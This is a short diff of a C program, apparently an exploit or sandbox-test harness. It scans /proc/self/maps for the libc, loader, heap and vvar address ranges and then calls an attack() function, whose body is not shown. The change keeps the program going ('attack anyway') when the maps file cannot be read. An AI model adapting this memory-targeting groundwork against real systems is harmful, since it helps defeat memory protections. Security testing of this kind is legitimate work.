@@ -31,14 +31,14 @@ __attribute__((noinline, noreturn)) static void attack(void) {
 
 int main(void) {
     for (int f = 0; f < NF; f++) fds[f] = memfd_create("m", 0);
-    FILE *m = fopen("/proc/self/maps", "r");
+    FILE *m = fopen("/proc/self/maps", "r"); /* may be refused: attack anyway */
     char line[512];
-    while (fgets(line, sizeof line, m) && nmap < 64) {
+    while (m && fgets(line, sizeof line, m) && nmap < 64) {
         unsigned long a, b;
         if (sscanf(line, "%lx-%lx", &a, &b) != 2) continue;
         if (strstr(line, "libc") || strstr(line, "ld-linux") || strstr(line, "[heap]") || strstr(line, "[vvar]")) { lo[nmap] = a; hi[nmap] = b; nmap++; }
     }
-    fclose(m);
+    if (m) fclose(m);
     fflush(stdout);
     attack();
 }
